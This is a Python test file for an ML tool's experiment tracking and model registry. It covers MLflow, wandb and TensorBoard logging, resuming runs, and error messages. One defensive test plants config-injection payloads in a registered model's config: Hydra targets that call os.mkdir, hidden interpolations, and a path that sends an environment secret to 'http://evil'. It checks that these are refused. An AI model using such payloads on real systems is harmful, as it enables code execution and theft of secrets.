"""Every tracker is told the same of a run, and a version of the registry predicts like its run."""

import json
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from conftest import SMALL, Alphazoo, exit_code, small_config
from omegaconf import OmegaConf
from stopping import stopped_in

from alphazoo.commands.job import train
from alphazoo.config import compose, config_dir, instantiate
from alphazoo.data.labels import Label
from alphazoo.errors import InputError, PrunedError
from alphazoo.runs.run import Run
from alphazoo.tracking import Tracker, last_step, need, open_trackers

NAMES = ("mlflow", "wandb", "tensorboard")
TINY = ["model=linear", "++trainer.limit_train_batches=5"]
DAY = "date=2015-06-30"
COMMIT = "0123456789abcdef0123456789abcdef01234567"


def tracker(name: str) -> None:
    pytest.importorskip(name, reason=f"needs pip install 'alphazoo[{name}]'")


def client(file: Path) -> Any:
    from alphazoo.tracking.store import connect

    return connect(f"sqlite:///{file}")


@pytest.fixture
def store(empty_store: Path, tmp_path: Path) -> Path:
    """That of the folder where commands run, by default."""
    (tmp_path / "runs").mkdir()
    return Path(shutil.copy(empty_store, tmp_path / "runs" / "mlflow.db"))


def runs_of(file: Path) -> list[Any]:
    known = client(file)
    experiment = known.get_experiment_by_name("alphazoo")
    return [*known.search_runs([experiment.experiment_id])] if experiment else []


@pytest.fixture(scope="session")
def told(empty_store: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a run that all trackers heard of."""
    for name in NAMES:
        tracker(name)
    folder = tmp_path_factory.mktemp("told")
    uri = f"sqlite:///{shutil.copy(empty_store, folder / 'mlflow.db')}"
    loggers = [f"logger=[{','.join(NAMES)}]", f"logger.mlflow.tracking_uri={uri}"]
    with pytest.MonkeyPatch.context() as patch:  # the tests may run outside a checkout
        patch.setattr("alphazoo.runs.provenance._git", lambda: {"commit": COMMIT, "changed": False})
        train(small_config(*loggers, "model.hidden_size=4", f"folder={folder}", "report=true"))
    return folder


def expected(folder: Path) -> tuple[dict[str, str], dict[str, float]]:
    """Some settings and facts, and the figures, that a tracker must know."""
    run = Run.open(folder)
    settings = {
        "model.hidden_size": "4",
        "data.train": "['2015-02-01', '2015-04-15']",
        "provenance.data.fingerprint": run.provenance["data"]["fingerprint"],
        "provenance.git.commit": COMMIT,
        "provenance.packages.torch": run.provenance["packages"]["torch"],
    }
    return settings, {name: x for name, x in run.metrics.items() if x is not None}


def test_mlflow_knows_settings_facts_figures_and_files(told: Path) -> None:
    settings, figures = expected(told)
    (run,) = runs_of(told / "mlflow.db")
    assert run.info.status == "FINISHED"
    assert settings.items() <= run.data.params.items()
    assert not [key for key in run.data.params if key.split(".")[0] in ("logger", "datamodule")]
    assert figures.items() <= run.data.metrics.items()
    logged = pd.read_csv(told / "logs" / "metrics.csv")
    curve = client(told / "mlflow.db").get_metric_history(run.info.run_id, "val/ic")
    epochs = logged.dropna(subset="val/ic")
    assert [point.step for point in curve][:-1] == epochs["step"].tolist()
    assert [point.value for point in curve][:-1] == pytest.approx(epochs["val/ic"].tolist())
    files = Path(run.info.artifact_uri)
    for name in (
        "report.html",
        "config.yaml",
        "provenance.json",
        "metrics.json",
        "figures/value.png",
    ):
        assert (files / name).read_bytes() == (told / name).read_bytes()


def test_tensorboard_knows_settings_facts_figures_and_pictures(told: Path) -> None:
    from tensorboard.backend.event_processing.event_accumulator import EventAccumulator
    from tensorboard.plugins.hparams.plugin_data_pb2 import HParamsPluginData

    settings, figures = expected(told)
    events = EventAccumulator(str(told / "logs")).Reload()
    text = events.Tensors("run/text_summary")[-1]
    for name, value in settings.items():
        assert f"| {name} | {value} |" in text.tensor_proto.string_val[0].decode()
    for name, value in figures.items():
        assert events.Scalars(name)[-1].value == pytest.approx(value, rel=1e-5)
        assert events.Scalars(name)[-1].step == last_step(told)
    table = events.summary_metadata["_hparams_/session_start_info"].plugin_data.content
    begun = HParamsPluginData.FromString(table).session_start_info
    assert begun.hparams["provenance.git.commit"].string_value == settings["provenance.git.commit"]
    assert {file.stem for file in (told / "figures").iterdir()} == {*events.Tags()["images"]}


def test_wandb_knows_settings_facts_figures_and_files_without_network(told: Path) -> None:
    settings, figures = expected(told)
    (run,) = (told / "wandb").glob("offline-run-*")
    content = next(run.glob("*.wandb")).read_bytes()
    for name in (*settings, *figures):
        assert name.encode() in content
    for name in ("provenance.data.fingerprint", "provenance.git.commit"):
        assert settings[name].encode() in content
    assert repr(figures["test/ic"]).encode() in content
    for name in ("report.html", "config.yaml", "provenance.json", "figures/value.png"):
        assert (run / "files" / "run" / name).read_bytes() == (told / name).read_bytes()
    assert [*(run / "files" / "media" / "html").glob("report*")]


def test_the_report_names_data_and_commit(told: Path) -> None:
    settings, _ = expected(told)
    page = (told / "report.html").read_text()
    assert settings["provenance.data.fingerprint"] in page
    assert settings["provenance.git.commit"] in page


def test_a_run_that_goes_on_is_the_same_run_of_mlflow(store: Path, tmp_path: Path) -> None:
    def config(*more: str) -> Any:
        uri = f"logger.mlflow.tracking_uri=sqlite:///{store}"
        out = f"folder={tmp_path / 'out'}"
        return small_config(*TINY, "trainer.max_epochs=3", "logger=mlflow", uri, out, *more)

    with stopped_in(1):
        train(config())
    assert [run.info.status for run in runs_of(store)] == ["FAILED"]
    train(config("ckpt=last", "trainer.max_epochs=4"))
    (run,) = runs_of(store)
    assert run.info.status == "FINISHED"
    assert run.data.params["trainer.max_epochs"] == "3"
    assert run.data.tags["trainer.max_epochs"] == "4"
    curve = client(store).get_metric_history(run.info.run_id, "train/loss")
    assert [point.step for point in curve] == [4, 9, 14, 19]
    train(config())
    assert len(runs_of(store)) == 2


@pytest.mark.thorough
def test_a_run_that_goes_on_is_the_same_run_of_wandb_and_tensorboard(tmp_path: Path) -> None:
    tracker("wandb")
    tracker("tensorboard")
    from tensorboard.backend.event_processing.event_accumulator import EventAccumulator

    told = [*TINY, "logger=[wandb,tensorboard]", f"folder={tmp_path}"]
    with stopped_in(1):
        train(small_config(*told))
    train(small_config(*told, "ckpt=last"))
    # offline-run-TIME-ID, and a number where the second is that of the run before
    names = [folder.name for folder in (tmp_path / "wandb").glob("offline-run-*")]
    assert len(names) == 2
    assert len({name.split("-")[3] for name in names}) == 1
    events = EventAccumulator(str(tmp_path / "logs")).Reload()
    assert [point.step for point in events.Scalars("train/loss")] == [4, 9]


def test_a_walk_forward_is_one_run(store: Path, tmp_path: Path) -> None:
    uri = f"logger.mlflow.tracking_uri=sqlite:///{store}"
    walk = ["walk_forward=monthly", "trainer.max_epochs=1", f"folder={tmp_path / 'out'}"]
    train(small_config(*TINY, *walk, "logger=mlflow", uri))
    (run,) = runs_of(store)
    compared = pd.read_csv(tmp_path / "out" / "windows.csv")
    curve = client(store).get_metric_history(run.info.run_id, "window/test/ic")
    assert [point.value for point in curve] == pytest.approx(compared["test/ic"].tolist())
    assert (
        run.data.params["provenance.settings"] == Run.open(tmp_path / "out").provenance["settings"]
    )
    assert (Path(run.info.artifact_uri) / "windows.csv").is_file()


def test_a_version_predicts_like_its_run_and_an_older_one_rolls_back(
    alphazoo: Alphazoo, store: Path, tmp_path: Path
) -> None:
    register = ["logger=mlflow", "logger.mlflow.model_name=small"]
    for seed in (1, 2):
        told = [*SMALL, *TINY, f"seed={seed}", f"hydra.run.dir=runs/{seed}"]
        result = alphazoo("train", *told, *register)
        assert f"registered: models:/small/{seed} in sqlite:///{store}" in result.out
    known = client(store)
    known.set_registered_model_alias("small", "champion", "1")
    with pytest.warns(FutureWarning):  # MLflow has stages until its next major version
        known.transition_model_version_stage("small", "1", "Staging")

    def scores(*run: str) -> pd.DataFrame:
        result = alphazoo("predict", *run, DAY, "out=scores.parquet")
        assert result.code == 0
        return pd.read_parquet(tmp_path / "scores.parquet")

    one, two = (scores(f"run=runs/{seed}") for seed in (1, 2))
    assert not one["score"].equals(two["score"])
    for wanted, run in (
        ("small/1", one),
        ("small/2", two),
        ("small/latest", two),
        ("small@champion", one),
        ("small/staging", one),
    ):
        found = scores(f"model_uri=models:/{wanted}")
        pd.testing.assert_frame_equal(found, run, check_exact=True)
    alphazoo("predict", "model_uri=models:/small/2", DAY)
    assert (tmp_path / "predictions" / "small" / "2" / "2015-06-30.parquet").is_file()
    assert "is already finished" in alphazoo("train", "run=runs/2").out
    assert len(known.search_model_versions("name = 'small'")) == 2  # the same files are no third


def test_a_version_of_a_walk_forward_is_its_newest_training(
    alphazoo: Alphazoo, store: Path, tmp_path: Path
) -> None:
    walk = ["walk_forward=monthly", "trainer.max_epochs=1", "hydra.run.dir=out"]
    alphazoo("train", *SMALL, *TINY, *walk, "logger=mlflow", "logger.mlflow.model_name=walked")
    for run in ("run=out", "model_uri=models:/walked/1"):
        alphazoo("predict", run, DAY, f"out={run[:3]}.parquet")
    one, other = (pd.read_parquet(tmp_path / f"{name}.parquet") for name in ("run", "mod"))
    pd.testing.assert_frame_equal(one, other, check_exact=True)


def test_a_model_of_the_user_is_served_where_its_yaml_is(
    alphazoo: Alphazoo, store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "mine" / "model").mkdir(parents=True)
    (tmp_path / "mine" / "own_linear.py").write_text(
        "from alphazoo.models.linear import Linear\n\n\nclass Own(Linear):\n    pass\n"
    )
    linear = (config_dir() / "model" / "linear.yaml").read_text()
    own = linear.replace("alphazoo.models.linear.Linear", "own_linear.Own")
    (tmp_path / "mine" / "model" / "own.yaml").write_text(own)
    register = ["logger=mlflow", "logger.mlflow.model_name=own", "hydra.run.dir=out"]
    alphazoo("train", "--config-dir=mine", "model=own", *SMALL, *register)
    monkeypatch.setattr("alphazoo.runs.trust._trained", set())  # as in another process
    refused = str(alphazoo("predict", "model_uri=models:/own/1", DAY).code)
    assert "the config of models:/own/1 uses own_linear.Own, which no yaml file" in refused
    for run in ("run=out", "model_uri=models:/own/1"):
        assert alphazoo("predict", run, DAY, "--config-dir=mine").code == 0


@pytest.fixture(scope="module")
def registered(empty_store: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a store that has the version ``models:/bad/1``."""
    folder = tmp_path_factory.mktemp("registered")
    (folder / "runs").mkdir()
    shutil.copy(empty_store, folder / "runs" / "mlflow.db")
    register = ["logger=mlflow", "logger.mlflow.model_name=bad", "hydra.run.dir=out"]
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        assert exit_code("train", *SMALL, *TINY, *register) == 0
    return folder


@pytest.fixture
def version(
    alphazoo: Alphazoo, registered: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Path]:
    """Its files, which anybody who can write to the registry changes; commands run there."""
    monkeypatch.chdir(registered)
    files = Path(client(registered / "runs" / "mlflow.db").get_model_version("bad", "1").source)
    kept = shutil.copytree(files, tmp_path / "kept")
    yield files
    shutil.rmtree(files)
    shutil.copytree(kept, files)


EVIL = "{_target_: os.mkdir, path: harm}"
HIDDEN = """
folder: xloss
names: {min: os.mkdir, max: alphazoo.data.labels.Label}
datamodule: {_target_: "${names.${better:${folder}}}", path: harm}
"""


@pytest.mark.parametrize(
    ("evil", "message"),
    [
        (f"extra: {EVIL}", "uses os.mkdir, which no yaml file of alphazoo"),
        (f"extra: '${{oc.create:\"{EVIL}\"}}'", "uses ${oc.create:"),
        (HIDDEN, "uses ${names.${better:${folder}}}, which no yaml"),
        ("names: {a: os.mkdir}\ndatamodule: {_target_: '${names.a}'}", "uses ${names.a}, which"),
        ("d: decode\nextra: '${oc.${d}:\"[1]\"}'", "uses ${oc.${d}:"),
        ("data: {path: 'http://evil/${oc.env:SECRET}'}", "uses http://evil/${oc.env:SECRET}, wh"),
        (
            "data: {path: '${oc.env:MLFLOW_TRACKING_URI,\"sqlite:///runs/mlflow.db\"}'}",
            "uses ${oc.env:MLFLOW_TRACKING_URI,",
        ),
        ("ensemble: {by: rank, runs: ['${folder}/inner']}", "models:/bad/1 is an ensemble"),
    ],
)
def test_a_config_of_the_registry_runs_and_tells_nothing(
    alphazoo: Alphazoo, version: Path, evil: str, message: str
) -> None:
    told = OmegaConf.load(version / "config.yaml")
    OmegaConf.save(OmegaConf.merge(told, OmegaConf.create(evil)), version / "config.yaml")
    assert message in str(alphazoo("predict", "model_uri=models:/bad/1", DAY).code)
    assert not Path("harm").exists()


def test_no_other_file_of_a_version_is_read(alphazoo: Alphazoo, version: Path) -> None:
    for part in ("windows/2020", "a", "checkpoints/inner"):
        (version / part).mkdir(parents=True)
        (version / part / "config.yaml").write_text(
            f"data: {{train: {EVIL}, valid: null, test: null}}"
        )
        shutil.copy(version / "checkpoints" / "best.ckpt", version / part)
    assert alphazoo("predict", "model_uri=models:/bad/1", DAY).code == 0
    assert not Path("harm").exists()
    (version / "config.yaml").unlink()
    lost = str(alphazoo("predict", "model_uri=models:/bad/1", DAY).code)
    assert "is version 1, whose files lack config.yaml" in lost


def test_what_the_user_says_of_a_version_may_be_anything(
    alphazoo: Alphazoo, version: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """And replaces what the registry says of it."""
    told = OmegaConf.load(version / "config.yaml")
    told.data.n_stocks = "${oc.env:STOCKS}"
    OmegaConf.save(told, version / "config.yaml")
    monkeypatch.setenv("STOCKS", "12")
    asked = ["predict", "model_uri=models:/bad/1", DAY]
    assert "uses ${oc.env:STOCKS}, which no" in str(alphazoo(*asked).code)
    assert alphazoo(*asked, "data.n_stocks=12").code == 0
    mine = "label._target_=test_tracking.OwnLabel"
    assert alphazoo(*asked, "data.n_stocks='${oc.decode:${oc.env:STOCKS}}'", mine).code == 0


class OwnLabel(Label):
    """One that no yaml file names."""


def test_bad_input_of_the_registry_is_one_message(
    alphazoo: Alphazoo, store: Path, tmp_path: Path
) -> None:
    known = client(store)
    known.create_registered_model("csi300-gru")
    for _ in range(2):
        known.create_model_version("csi300-gru", str(tmp_path))
    known.set_registered_model_alias("csi300-gru", "champion", "1")
    for uri, message in (
        ("models:/csi300-grv/1", "no model 'csi300-grv' in the registry; did you mean 'csi300-gru"),
        ("models:/csi300-gru/3", "csi300-gru has no version 3; available: 1, 2"),
        ("models:/csi300-gru@champ", "has no alias 'champ'; did you mean 'champion'"),
        ("models:/csi300-gru/Production", "has no version Production; available: 1, 2"),
        ("models:/csi300-gru/2", "is version 2 and was not written by alphazoo"),
        ("runs:/csi300-gru/3", "expected model_uri=models:/NAME/VERSION or models:/NAME@ALIAS"),
        ("models:/csi300-gru", "expected model_uri=models:/NAME/VERSION or models:/NAME@ALIAS"),
    ):
        assert message in str(alphazoo("predict", f"model_uri={uri}", DAY).code)
    missing = alphazoo("predict", "model_uri=models:/a/1", "tracking_uri=sqlite:///other.db", DAY)
    assert f"no file {tmp_path}/other.db: tracking_uri=" in str(missing.code)
    assert not (tmp_path / "other.db").exists()
    both = alphazoo("predict", "run=out", "model_uri=models:/a/1", DAY)
    assert "expected: alphazoo predict run=FOLDER" in str(both.code)


def test_the_password_of_a_server_is_in_no_file_and_no_message(
    store: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """And another password is no other server: the run goes on."""
    from alphazoo.tracking import mlflow

    monkeypatch.setattr(mlflow, "connect", lambda _: client(store))
    caplog.set_level("INFO")
    for word, runs in (("secret", 1), ("p@secret", 1), ("secret", 2)):
        monkeypatch.setenv("MLFLOW_TRACKING_URI", f"http://me:{word}@server:5000/path@x")
        asked = instantiate(compose("logger=mlflow").logger.mlflow, folder=tmp_path)
        assert asked.run_id
        assert len(runs_of(store)) == runs
        known = asked.load_state()
        assert known["store"] == known["asked"] == "http://server:5000/path@x"
        if runs == 1 and "@" in word:
            asked.save_state(**{**known, "run": "0" * 32})
    assert f"http://server:5000/path@x has no run {'0' * 32}: starting a new one" in caplog.text
    assert "secret" not in caplog.text


@pytest.mark.parametrize(
    ("told", "message"),
    [
        (
            ["logger=mlflow", "logger.mlflow.tracking_uri='${oc.env:ADDRESS}'"],
            "MLflow at http://127.0.0.1:9: .*Connection refused",
        ),
        (
            ["logger=mlflow", "logger.mlflow.tracking_uri='http://me:${oc.env:WORD}@127.0.0.1:9'"],
            "MLflow at http://127.0.0.1:9: .*Connection refused",
        ),
        (
            ["logger=mlflow", "logger.mlflow.tracking_uri=http://me:secret@127.0.0.1:9"],
            r"tracking_uri holds a password .*MLFLOW_TRACKING_PASSWORD, or write \$.oc.env:NAME",
        ),
        (
            ["logger=mlflow", "logger.mlflow.tracking_uri=null"],
            "logger.mlflow.tracking_uri=null: expected sqlite:///FILE or a URL",
        ),
        (
            ["logger=mlflow", "logger.mlflow.model_name=a/b"],
            "model_name must be a name .* got 'a/b'",
        ),
        (["logger=mlflow", "logger.mlflow.tracking_uri=odd://x"], "MLflow at odd://x: .*unsupport"),
        (["logger=mlflow", "logger.mlflow.tracking_uri=sqlite:///bad.db"], "not a database"),
        (
            ["logger=mlflow", "logger.mlflow.tracking_uri=sqlite:///."],
            "MLflow at sqlite:///.*: cannot write .*: Is a directory",
        ),
        (
            ["logger=mlflow", "logger.mlflow.tracking_uri=sqlite:////dev/null/x.db"],
            "MLflow at sqlite:////dev/null/x.db: cannot write /dev/null/x.db: ",
        ),
        (["logger=wandb", "logger.wandb.mode=onlin"], "mode 'onlin'; did you mean 'online'"),
        (["logger=wandb", "logger.wandb.mode=online"], "needs an account: run wandb login"),
        (["logger=mlfow"], "unknown logger 'mlfow'; did you mean 'mlflow'"),
    ],
)
def test_a_tracker_that_cannot_be_had_ends_the_run_before_it_begins(
    alphazoo: Alphazoo,
    tmp_path: Path,
    told: list[str],
    message: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    if told[0] != "logger=mlfow":
        tracker(told[0].partition("=")[2])
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.delenv("WANDB_API_KEY", raising=False)
    monkeypatch.setenv("ADDRESS", "http://me:secret@127.0.0.1:9")
    monkeypatch.setenv("WORD", "p@secret")
    (tmp_path / "bad.db").write_text("no database" * 100)
    result = alphazoo("train", *SMALL, *told, "hydra.run.dir=out")
    with pytest.raises(InputError, match=message):
        raise InputError(str(result.code))
    assert "secret" not in str(result.code)
    assert not (tmp_path / "out" / "config.yaml").exists()


class Heard(Tracker):
    """Remembers the last thing it was told."""

    name, version, status = "heard", None, ""

    def log_metrics(self, *_: object) -> None: ...

    def log_hyperparams(self, *_: object) -> None: ...

    def log_files(self, *_: object) -> None: ...

    def end(self, status: str) -> None:
        self.status = status


@pytest.mark.parametrize(
    ("fault", "status"),
    [
        (InputError, "failed"),
        (ArithmeticError, "failed"),
        (PrunedError, "killed"),
        (KeyboardInterrupt, "killed"),
        (SystemExit, "killed"),
    ],
)
def test_a_tracker_hears_how_a_run_ended(
    tmp_path: Path, fault: type[BaseException], status: str
) -> None:
    config = small_config(f"folder={tmp_path}", "+logger.heard._target_=test_tracking.Heard")
    with pytest.raises(fault), open_trackers(config) as (heard,):
        raise fault
    assert heard.status == status


def test_a_missing_package_is_named(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.syspath_prepend(tmp_path)
    (tmp_path / "mlfloww").mkdir()  # a folder of that name is no package
    for package in ("mlfloww", "nothing_of_this_name"):
        with pytest.raises(InputError, match=f"package {package}: pip install 'alphazoo.mlflow.'"):
            need(package, "mlflow")


def test_a_server_that_is_lost_costs_no_training(
    alphazoo: Alphazoo, store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from mlflow.exceptions import MlflowException
    from mlflow.tracking import MlflowClient

    def gone(*_: object, **__: object) -> None:
        raise MlflowException("the server is away")

    told = [*SMALL, *TINY, "logger=mlflow", "logger.mlflow.model_name=late", "hydra.run.dir=out"]
    with monkeypatch.context() as patch:
        describe = MlflowClient.log_batch
        patch.setattr(
            MlflowClient,
            "log_batch",
            lambda *a, metrics=(), **b: gone() if metrics else describe(*a, **b),
        )
        patch.setattr(MlflowClient, "log_artifact", gone)
        result = alphazoo("train", *told)
    assert "from now on, metrics are only in logs/metrics.csv: the server is away" in result.out
    assert "the server is away" in str(result.code)
    assert json.loads((tmp_path / "out" / "metrics.json").read_text())["test/days"] > 0
    again = alphazoo("train", "run=out")
    assert "is already finished" in again.out
    assert "registered: models:/late/1" in again.out
    (run,) = runs_of(store)
    assert run.info.status == "FINISHED"
    assert "test/ic" in run.data.metrics


@pytest.mark.thorough
def test_nothing_of_a_tracker_is_imported_unless_asked() -> None:
    names = "{'mlflow', 'wandb', 'tensorboard'}"
    code = f"import sys, alphazoo.commands.job; print({names} & {{*sys.modules}})"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "set()"


@pytest.mark.slow
def test_two_processes_are_one_run(store: Path, tmp_path: Path) -> None:
    arguments = [a for a in SMALL if "accelerator" not in a] + TINY
    devices = ["trainer=ddp", "trainer.accelerator=cpu", "trainer.devices=2"]
    told = ["logger=mlflow", "logger.mlflow.model_name=two", "hydra.run.dir=out"]
    command = [sys.executable, "-m", "alphazoo", "train", *arguments, *devices, *told]
    subprocess.run(command, cwd=tmp_path, check=True)
    (run,) = runs_of(store)
    assert run.info.status == "FINISHED"
    assert len(client(store).search_model_versions("name = 'two'")) == 1


@pytest.fixture
def server(tmp_path: Path) -> Iterator[str]:
    """A server of MLflow of its own, which keeps files, too."""
    if find_spec("mlflow") is None or find_spec("flask") is None:
        pytest.skip("needs the server of MLflow: pip install mlflow")
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    place = tmp_path / "server"
    place.mkdir()
    uri = f"http://127.0.0.1:{port}"
    options = ["--host=127.0.0.1", f"--port={port}", "--workers=1"]
    options += [f"--backend-store-uri=sqlite:///{place}/mlflow.db"]
    options += [f"--artifacts-destination={place}/files"]
    process = subprocess.Popen([sys.executable, "-m", "mlflow", "server", *options], cwd=place)
    try:
        for _ in range(120):
            try:
                urllib.request.urlopen(f"{uri}/health", timeout=1)
                break
            except OSError:
                time.sleep(0.5)
        yield uri
    finally:
        process.terminate()
        process.wait(30)


@pytest.mark.slow
def test_a_server_keeps_runs_and_serves_models(
    alphazoo: Alphazoo, server: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    told = ["logger=mlflow", f"logger.mlflow.tracking_uri={server}", "hydra.run.dir=out"]
    result = alphazoo("train", *SMALL, *TINY, *told, "logger.mlflow.model_name=far", "report=true")
    assert result.code == 0
    alphazoo("predict", "run=out", DAY, "out=near.parquet")
    far = alphazoo("predict", "model_uri=models:/far/1", f"tracking_uri={server}", DAY)
    assert far.code == 0
    monkeypatch.setenv("MLFLOW_TRACKING_URI", server)
    alphazoo("predict", "model_uri=models:/far/latest", DAY, "out=far.parquet")
    near = pd.read_parquet(tmp_path / "near.parquet")
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "far.parquet"), near, check_exact=True)
    unknown = alphazoo("predict", "model_uri=models:/fat/1", DAY)
    assert "no model 'fat' in the registry; did you mean 'far'?" in str(unknown.code)
